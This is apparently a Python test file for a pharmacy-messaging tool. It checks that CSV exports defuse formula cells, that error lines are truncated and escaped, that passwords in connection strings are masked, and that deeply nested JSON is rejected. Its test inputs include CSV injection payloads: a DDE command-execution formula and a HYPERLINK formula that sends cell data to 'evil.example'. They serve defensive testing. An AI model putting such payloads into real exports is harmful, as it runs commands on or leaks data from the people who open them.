"""What error lines and CSV exports do with text from outside: cut, escaped, masked, defused."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rxmsg_tui.domain import json_nesting
from rxmsg_tui.domain.csv_cells import FORMULA_START, spreadsheet_safe
from rxmsg_tui.domain.safe_text import MAX_LINE, MAX_VALUE, mask_passwords, one_line, shown


@pytest.mark.parametrize(
    "cell",
    [
        "=cmd|' /C calc'!A0",
        '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1+1",
        "\r=1+1",
        "\uff1dcmd",
    ],
)
def test_a_cell_that_starts_like_a_formula_stays_text(cell: str) -> None:
    assert spreadsheet_safe(cell) == "'" + cell


@pytest.mark.parametrize("cell", ["+15550102000", "-3", "-1.5", "Smith", "", "2026-03-02", "a=b"])
def test_plain_numbers_and_ordinary_text_are_written_as_they_are(cell: str) -> None:
    assert spreadsheet_safe(cell) == cell


@given(st.text())
def test_no_csv_cell_can_start_a_formula(cell: str) -> None:
    written = io.StringIO()
    csv.writer(written).writerow([spreadsheet_safe(cell)])
    (read,) = csv.reader(io.StringIO(written.getvalue()))
    value = read[0] if read else ""
    is_number = value.lstrip("+-").replace(".", "", 1).isdigit() and value.isascii()
    assert not value.startswith(FORMULA_START) or is_number


def test_a_huge_value_is_cut_to_80_characters_with_controls_visible() -> None:
    assert shown("9" * 5_000_000) == "9" * (MAX_VALUE - 1) + "…"
    assert shown("a\x1b[2Jb\x07") == "a\\x1b[2Jb\\x07"
    assert shown("Rx 12345") == "Rx 12345"


@given(st.text())
def test_shown_is_never_longer_than_80_and_prints_on_one_line(value: str) -> None:
    text = shown(value)
    assert len(text) <= MAX_VALUE
    assert text.isprintable()


@pytest.mark.parametrize(
    ("message", "expected"),
    [
        (
            "cannot reach postgresql+psycopg://rx:s3cret!@db.example:5432/rx",
            "cannot reach postgresql+psycopg://rx:***@db.example:5432/rx",
        ),
        (
            "dsn host=db user=rx password=s3cret dbname=rx",
            "dsn host=db user=rx password=*** dbname=rx",
        ),
        ("password='s3 cret' host=db", "password=*** host=db"),
        (
            "sqlite:////var/lib/rxmsg/rxmsg.db is locked",
            "sqlite:////var/lib/rxmsg/rxmsg.db is locked",
        ),
    ],
)
def test_passwords_in_urls_and_connection_strings_are_masked(message: str, expected: str) -> None:
    assert mask_passwords(message) == expected


def test_a_message_is_one_line_of_bounded_length() -> None:
    line = one_line("first\nsecond\r\n" + "word " * 10_000)
    assert "\n" not in line and "\r" not in line
    assert line.startswith("first second word")
    assert len(line) == MAX_LINE


def test_a_long_value_in_a_message_keeps_both_ends() -> None:
    path = "/srv/pharmacy/" + "d" * 300 + "/settings.json"
    line = one_line(f"cannot read {path}: No such file or directory")
    assert line.startswith("cannot read /srv/pharmacy/ddd")
    assert line.endswith("ddd/settings.json: No such file or directory")
    assert max(len(word) for word in line.split()) == MAX_VALUE


@pytest.mark.parametrize(
    ("text", "line"),
    [("[" * 100_000, 1), ('{"a":' * 100_000, 1), ('{\n"x": "[[[[",\n"y":\n' + "[" * 50_000, 4)],
    ids=["arrays", "objects", "after a string of brackets"],
)
def test_json_nested_too_deeply_is_a_syntax_error_with_its_line(text: str, line: int) -> None:
    with pytest.raises(json.JSONDecodeError) as raised:
        json_nesting.loads(text)
    assert raised.value.msg == "nested too deeply"
    assert raised.value.lineno == line


def test_json_of_ordinary_depth_reads_as_usual() -> None:
    assert json_nesting.loads('{"a": [[1, {"b": "[[["}]]}') == {"a": [[1, {"b": "[[["}]]}


def test_a_value_of_control_characters_is_cut_after_it_is_made_visible() -> None:
    line = one_line("store '" + "x\x1b" * 100 + "' is not in this database")
    assert "\x1b" not in line
    assert max(len(word) for word in line.split()) == MAX_VALUE
